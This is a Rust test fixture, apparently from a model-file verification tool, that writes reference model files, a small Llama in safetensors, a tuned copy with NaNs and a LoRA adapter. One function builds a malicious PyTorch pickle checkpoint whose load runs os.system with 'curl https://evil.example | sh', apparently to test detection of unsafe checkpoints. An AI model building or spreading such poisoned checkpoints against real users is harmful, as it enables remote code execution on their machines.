//! The files that the sessions in the documents use.

#![allow(clippy::unwrap_used, reason = "this is test code")]

use std::fs;
use std::path::Path;

use crate::common::testdata;
use testkit::{Pickler, TorchTensor, torch_zip};

/// Files written by the formats' own tools, under the names that they have in the documents.
const REFERENCE: [(&str, &str); 8] = [
    ("trained.mag", "trained.mag"),
    ("simple_model.oinf", "simple_model.oinf"),
    ("one-shard.aero", "one-shard.aero"),
    ("many-shards.aero", "many-shards.aero"),
    ("pytorch_model.bin", "pytorch/torch-1.13-protocol2.pt"),
    ("model.apr", "apr/cli-q4k.apr"),
    ("old.apr", "apr/old-APR2.apr"),
    ("column-major.apr", "apr/column-major.apr"),
];

/// The number of these files that are in every folder, even if the document does not name them: `verify -r .`
/// lists them.
const ALWAYS: usize = 4;

/// A model as on the hub, and files that are derived from it.
const HUB: &str = "tiny-llama";
const TUNED: &str = "tuned.safetensors";
/// A LoRA of that model, in the form of PEFT.
const ADAPTER: &str = "adapter";
/// A checkpoint that runs a command when it is loaded with Python's pickle.
const HOSTILE: &str = "stranger.bin";

/// Makes a folder with the files that the commands name.
pub(super) fn write(folder: &Path, commands: &str) {
    fs::create_dir_all(folder).unwrap();
    for (number, (name, from)) in REFERENCE.into_iter().enumerate() {
        if number < ALWAYS || commands.contains(name) {
            fs::copy(testdata("reference").join(from), folder.join(name)).unwrap();
        }
    }
    if commands.contains(HUB) {
        write_hub_model(folder);
    }
    if commands.contains(ADAPTER) {
        write_adapter(&folder.join(ADAPTER));
    }
    if commands.contains(HOSTILE) {
        fs::write(folder.join(HOSTILE), hostile()).unwrap();
    }
}

const CONFIG: &str = r#"{"model_type": "llama", "hidden_size": 32, "intermediate_size": 64, "num_hidden_layers": 1,
"num_attention_heads": 4, "num_key_value_heads": 4, "vocab_size": 48, "max_position_embeddings": 128,
"rms_norm_eps": 1e-5, "rope_theta": 10000.0, "torch_dtype": "bfloat16"}"#;

const TOKENIZER: &str = r#"{"added_tokens": [{"id": 3, "content": "<|end|>", "special": true}],
"pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": false, "use_regex": true},
"model": {"type": "BPE", "vocab": {"a": 0, "b": 1, "ab": 2}, "merges": [["a", "b"]]}}"#;

/// The tensors of a Llama of one layer, with their shapes.
const TENSORS: [(&str, &[u64]); 12] = [
    ("model.embed_tokens", &[48, 32]),
    ("model.layers.0.input_layernorm", &[32]),
    ("model.layers.0.self_attn.q_proj", &[32, 32]),
    ("model.layers.0.self_attn.k_proj", &[32, 32]),
    ("model.layers.0.self_attn.v_proj", &[32, 32]),
    ("model.layers.0.self_attn.o_proj", &[32, 32]),
    ("model.layers.0.post_attention_layernorm", &[32]),
    ("model.layers.0.mlp.gate_proj", &[64, 32]),
    ("model.layers.0.mlp.up_proj", &[64, 32]),
    ("model.layers.0.mlp.down_proj", &[32, 64]),
    ("model.norm", &[32]),
    ("lm_head", &[48, 32]),
];

/// Writes a model as on the hub, and next to it [`TUNED`]: the same model with two tensors that are 1 %
/// larger and two NaN in a third tensor.
fn write_hub_model(folder: &Path) {
    fs::create_dir(folder.join(HUB)).unwrap();
    fs::write(folder.join(HUB).join("config.json"), CONFIG).unwrap();
    fs::write(folder.join(HUB).join("tokenizer.json"), TOKENIZER).unwrap();
    fs::write(folder.join(HUB).join("model.safetensors"), weights(|_, _, value| value)).unwrap();
    let tuned = weights(|name, element, value| match name {
        "model.layers.0.self_attn.v_proj" | "model.layers.0.mlp.down_proj" => value * 1.01,
        "model.norm" if element == 3 || element == 7 => f32::NAN,
        _ => value,
    });
    fs::write(folder.join(TUNED), tuned).unwrap();
}

/// Generates the values of the tensors of a safetensors file, pseudorandom but the same in each run. `change`
/// may modify them.
fn values(tensors: &[(&str, &[u64])], change: impl Fn(&str, u64, f32) -> f32, mut write: impl FnMut(f32)) {
    let mut state = 1_u32;
    for (name, shape) in tensors {
        for element in 0..shape.iter().product() {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            write(change(name, element, (state >> 8) as f32 / 16_777_216.0 - 0.5));
        }
    }
}

/// Returns a safetensors file with one type of numbers, each `width` bytes long.
fn safetensors(tensors: &[(&str, &[u64])], dtype: &str, width: u64, values: &[u8]) -> Vec<u8> {
    let mut begin = 0;
    let mut entry = |&(name, shape): &(&str, &[u64])| {
        let end = begin + shape.iter().product::<u64>() * width;
        let place = format!(r#""shape":{shape:?},"data_offsets":[{begin},{end}]"#);
        begin = end;
        format!(r#""{name}.weight":{{"dtype":"{dtype}",{place}}}"#)
    };
    let entries: Vec<_> = tensors.iter().map(&mut entry).collect();
    let header = format!("{{{}}}", entries.join(","));
    [&(header.len() as u64).to_le_bytes()[..], header.as_bytes(), values].concat()
}

/// Returns a safetensors file of [`TENSORS`] in bf16.
fn weights(change: impl Fn(&str, u64, f32) -> f32) -> Vec<u8> {
    let mut bytes = Vec::new();
    values(&TENSORS, change, |value| bytes.extend_from_slice(&value.to_le_bytes()[2..]));
    safetensors(&TENSORS, "BF16", 2, &bytes)
}

const ADAPTER_CONFIG: &str =
    r#"{"peft_type": "LORA", "r": 4, "lora_alpha": 8, "base_model_name_or_path": "tiny-llama"}"#;

fn write_adapter(folder: &Path) {
    let tensors: [(&str, &[u64]); 4] = [
        ("base_model.model.model.layers.0.self_attn.q_proj.lora_A", &[4, 32]),
        ("base_model.model.model.layers.0.self_attn.q_proj.lora_B", &[32, 4]),
        ("base_model.model.model.layers.0.mlp.down_proj.lora_A", &[4, 64]),
        ("base_model.model.model.layers.0.mlp.down_proj.lora_B", &[32, 4]),
    ];
    let mut bytes = Vec::new();
    values(&tensors, |_, _, value| value / 16.0, |value| bytes.extend_from_slice(&value.to_le_bytes()));
    fs::create_dir(folder).unwrap();
    fs::write(folder.join("adapter_config.json"), ADAPTER_CONFIG).unwrap();
    fs::write(folder.join("adapter_model.safetensors"), safetensors(&tensors, "F32", 4, &bytes)).unwrap();
}

fn hostile() -> Vec<u8> {
    let mut pickle = Pickler::new(2);
    pickle.op(b"}(").text("weight").tensor(&TorchTensor::f32("weight", "0", &[2]));
    pickle.text("hook").global("os", "system").op(b"(").text("curl https://evil.example | sh").op(b"tRu");
    torch_zip(&pickle.stop(), &[("0", &[0; 8])]).build()
}
